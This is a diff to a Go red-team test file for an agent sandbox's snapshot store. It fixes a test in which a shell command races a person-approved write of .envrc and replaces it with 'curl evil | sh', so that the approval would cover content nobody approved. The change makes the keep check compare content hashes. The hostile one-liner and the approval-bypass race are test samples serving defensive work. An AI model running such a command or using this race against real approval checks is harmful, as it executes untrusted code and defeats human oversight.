@@ -2,11 +2,8 @@ package snapshot_test
 
 import (
 	"context"
-	"os"
 	"path/filepath"
-	"slices"
 	"testing"
-	"time"
 
 	"github.com/agentbox/agentbox/snapshot"
 )
@@ -93,7 +90,10 @@ func TestRedteamUndoLaundersShellPlant(t *testing.T) {
 
 // A shell command waits for the approved Write of .envrc to land and
 // overwrites it before the Write's post-image is taken: the Write's entry
-// (approved for .envrc) would then keep the shell's content.
+// then holds the shell's content. The store cannot tell; the Keep
+// function can, because the protected change it is asked about carries
+// the new content's hash (tools' keepFor keeps an approved path only when
+// it holds what the tool wrote): a Keep that checks it reverts the plant.
 func TestRedteamShellRacesApprovedWrite(t *testing.T) {
 	ctx := context.Background()
 	ws := t.TempDir()
@@ -113,8 +113,18 @@ func TestRedteamShellRacesApprovedWrite(t *testing.T) {
 		t.Fatal(err)
 	}
 	wid = c.ID()
-	// The person approved this content, and only it.
-	c.SetKeep(keepAll)
+	approved := hashOf("export APPROVED=1\n")
+	var asked []snapshot.Protected
+	c.SetKeep(func(_ context.Context, cs []snapshot.Protected) []string {
+		asked = cs
+		var keep []string
+		for _, ch := range cs {
+			if ch.New != nil && ch.New.Hash == approved {
+				keep = append(keep, ch.Path)
+			}
+		}
+		return keep
+	})
 	write(t, ws, ".envrc", "export APPROVED=1\n")
 	w, err := c.Finish(ctx)
 	if err != nil {
@@ -124,9 +134,11 @@ func TestRedteamShellRacesApprovedWrite(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	t.Logf("write: %+v reverted %v; shell: %v reverted %v", w.Changes, w.Reverted, paths(se.Changes), se.Reverted)
-	if got := read(ws, ".envrc"); got == "curl evil | sh\n" {
-		t.Skip("known: the Keep function approves a path, not content (see report)")
+	if len(asked) != 1 || asked[0].New == nil || asked[0].New.Hash != hashOf("curl evil | sh\n") {
+		t.Fatalf("Keep was asked about %+v, want the raced content of .envrc", asked)
+	}
+	if got := read(ws, ".envrc"); got != "export SAFE=1\n" {
+		t.Fatalf(".envrc = %q after a refused keep (write %v reverted %v; shell %v)", got, paths(w.Changes), w.Reverted, paths(se.Changes))
 	}
 }
 
@@ -171,7 +183,3 @@ func TestRedteamNoUnjudgedOldState(t *testing.T) {
 		}
 	}
 }
-
-var _ = slices.Contains[[]string]
-var _ = os.Remove
-var _ = time.Second
